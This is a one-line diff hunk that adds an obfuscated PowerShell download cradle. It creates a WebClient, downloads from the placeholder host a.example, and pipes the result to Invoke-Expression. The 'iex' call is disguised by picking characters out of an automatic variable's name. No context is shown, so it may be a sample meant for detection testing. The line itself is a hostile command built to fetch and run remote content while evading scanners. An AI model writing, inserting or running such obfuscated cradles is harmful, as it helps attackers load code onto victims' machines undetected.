@@ -1,0 +1,1 @@
+'$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')' | . ((gv '*MDR*').naME[3,11,2]-jOIN'')
